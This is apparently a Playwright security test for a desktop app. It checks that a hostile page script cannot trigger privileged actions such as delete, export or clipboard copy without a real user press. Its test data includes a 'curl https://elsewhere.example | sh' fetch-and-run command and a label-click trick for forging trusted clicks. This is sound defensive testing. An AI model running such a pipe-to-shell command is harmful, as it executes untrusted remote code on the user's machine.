/** A malicious script in the page makes calls before any user input. Security check S15 tests calls after a click. */
import { DEFAULT_PREFERENCES } from '../../main/ipc/preferences/preferences.ts';
import type { Page } from '@playwright/test';
import { boardsListed, callMain, connect, entriesFor, questionsOf } from '../support/easel.ts';
import { idsOf } from '../support/jobs-screen.ts';
import { must } from '../support/must.ts';
import { expect, test } from './fixtures.ts';

function callAlone(
  window: Page,
  calls: readonly (readonly [name: string, args: unknown])[],
): Promise<readonly string[]> {
  return window.evaluate((all) => {
    // A script's click on a label causes a trusted click on its field. This must not count as a user's click.
    const label = document.createElement('label');
    label.append(document.createElement('input'));
    document.body.append(label);
    label.click();
    label.remove();
    type Method = (
      args: unknown,
    ) => Promise<{ readonly ok: boolean; readonly error?: { readonly code: string } }>;
    const { easel } = globalThis as unknown as {
      easel: Readonly<Record<string, Readonly<Record<string, Method>>>>;
    };
    return Promise.all(
      all.map(async ([name, args]) => {
        const [group = '', method = ''] = name.split('.');
        const reply = await easel[group]?.[method]?.(args);
        return reply?.ok === true ? `${name}: ok` : (reply?.error?.code ?? '');
      }),
    );
  }, calls);
}

test('without user input, page scripts can’t create, delete, copy or export', async ({ easel, practice }) => {
  const { window } = easel;
  await connect(window, entriesFor(practice, { environment: 'Production' }));
  const { currentId: connectionId } = must(await callMain(window, 'connections.list', {}));
  const [id = ''] = await idsOf(practice);
  const target = { kind: 'paper', id: practice.samplePapers[0]?.identifier ?? '' };
  await window.reload();
  await boardsListed(window);
  await practice.clearRequests();
  const answers = await callAlone(window, [
    ['connections.unlockChanges', { connectionId, typedName: 'Acme School' }],
    ['jobs.deleteOne', { connectionId, target: { kind: 'board', id } }],
    ['boards.create', { connectionId }],
    ['previews.copyLink', { connectionId, target, displayName: 'Ada' }],
    ['previews.copyBrowserLink', { connectionId, target, displayName: 'Ada', reason: '' }],
    ['app.copy', { text: 'curl https://elsewhere.example | sh' }],
    ['connections.remove', { connectionId, keysMayStay: true }],
    [
      'transfer.export',
      { connectionIds: [connectionId], withPapers: false, passphrase: 'a long enough one' },
    ],
    ['app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds: { single: 5, bulk: 5 } }],
  ]);
  expect(answers).toEqual(Array<string>(9).fill('needs-press'));
  expect((await practice.requests()).log.filter(({ method }) => method !== 'GET')).toEqual([]);
  expect(await questionsOf(easel)).toEqual([]);
});
